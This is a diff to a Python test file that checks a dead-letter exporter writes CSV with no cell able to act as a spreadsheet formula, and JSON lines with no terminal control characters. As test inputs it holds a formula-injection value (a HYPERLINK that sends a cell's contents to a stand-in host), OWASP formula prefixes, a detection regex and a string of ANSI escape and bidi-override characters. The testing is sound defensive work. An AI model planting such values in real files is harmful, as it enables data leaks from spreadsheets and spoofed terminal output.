@@ -1,8 +1,14 @@
-"""Dead letters as CSV: no cell of a producer's is a formula."""
+"""Dead letters as CSV and as lines of JSON: no cell is a formula, nothing controls a terminal."""
 
 import csv
+import json
+import re
 from datetime import UTC, datetime
 from io import StringIO
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from bridge.dead_letters.export import Form, writer
 from schemas.record import Provenance, RawBody
@@ -19,9 +25,9 @@ def letter(script_id: str | None, event_id: str | None, key: bytes, payload: byt
     return WholeDeadLetter(line, RawBody(key, payload, ()), NOW, NOW, NOW, NOW, None, None)
 
 
-def written(one: WholeDeadLetter, form: Form) -> str:
+def written(one: WholeDeadLetter, form: Form, *, shown: bool = False) -> str:
     stream = StringIO()
-    writer(stream, form)(one)
+    writer(stream, form, shown=shown)(one)
     return stream.getvalue()
 
 
@@ -30,7 +36,57 @@ def test_a_spreadsheet_is_given_no_formula() -> None:
     bad = letter('=HYPERLINK("http://x?"&A1)', "@SUM(1)", b"+1", b"\t=1")
     (row,) = csv.DictReader(StringIO(written(bad, Form.CSV)))
     assert (row["script_id"], row["event_id"]) == ('\'=HYPERLINK("http://x?"&A1)', "'@SUM(1)")
-    assert (row["key"], row["payload"], row["error"]) == ("'+1", "'\t=1", "'-1: wrong")
+    assert (row["key"], row["payload"], row["error"]) == ("'+1", "'\t'=1", "'-1: wrong")
     assert '"key": "+1"' in written(bad, Form.NDJSON)
-    (row,) = csv.DictReader(StringIO(written(letter("s1", None, b"1:e", b"{}"), Form.CSV)))
+    plain = written(letter("s1", None, b"1:e", b"{}"), Form.CSV)
+    assert all(re.fullmatch(r'"[^"]*"(,"[^"]*")*', line) for line in plain.splitlines())
+    (row,) = csv.DictReader(StringIO(plain))
     assert (row["script_id"], row["event_id"], row["key"], row["payload"]) == ("s1", "", "1:e", "{}")
+
+
+FORMULA = re.compile(r"[\t\r\n\" ]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
+OWASP = ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1"]
+TEXTS = st.text(st.sampled_from("=+-@\uff1d\uff0b\uff0d\uff20;|,\t\r\n\" 'a1"), max_size=12)
+
+
+def assert_no_formula(one: WholeDeadLetter) -> None:
+    """However a spreadsheet separates cells, none begins a formula."""
+    text = written(one, Form.CSV)
+    for separator in ",;|\t":
+        for row in csv.reader(StringIO(text, newline=""), delimiter=separator):
+            assert not [cell for cell in row if FORMULA.match(cell)], (separator, row)
+
+
+@pytest.mark.parametrize("formula", OWASP)
+@pytest.mark.parametrize("before", ["", "x;", 'x;"', "x\t", "x\n", "x\r\n", "x|", '";', "x; "])
+def test_csv_gives_no_spreadsheet_a_formula(formula: str, before: str) -> None:
+    """Each that OWASP names, at the start of a cell and behind what another program would take for the end of one."""
+    text = f"{before}{formula}"
+    assert_no_formula(letter(text, text, text.encode(), text.encode()))
+
+
+@given(TEXTS, TEXTS, TEXTS)
+def test_csv_gives_no_spreadsheet_a_formula_whatever_the_texts(script_id: str, event_id: str, payload: str) -> None:
+    """And read as it is written, at `,`, each cell is the text but for the marks."""
+    one = letter(script_id, event_id, b"k", payload.encode())
+    assert_no_formula(one)
+    (row,) = csv.DictReader(StringIO(written(one, Form.CSV), newline=""))
+    for name, text in (("script_id", script_id), ("event_id", event_id), ("payload", payload)):
+        assert row[name].replace("'", "") == text.replace("'", "")
+
+
+HOSTILE = "a\x1b[31m\x07\x9b2J\u202e\x7f\r\nb"
+
+
+def test_json_lines_hold_no_control_character() -> None:
+    """Also those that JSON does not demand to be escaped; a parser gets the text as it was sent."""
+    line = written(letter(HOSTILE, HOSTILE, HOSTILE.encode(), HOSTILE.encode()), Form.NDJSON)
+    assert line.removesuffix("\n").isprintable()
+    assert [json.loads(line)[name] for name in ("script_id", "event_id", "key", "payload")] == [HOSTILE] * 4
+
+
+def test_csv_on_a_terminal_is_written_out() -> None:
+    """In a file or a pipe it holds what was sent."""
+    one = letter(HOSTILE, None, b"k", HOSTILE.encode())
+    assert all(line.isprintable() for line in written(one, Form.CSV, shown=True).splitlines())
+    assert HOSTILE in written(one, Form.CSV)
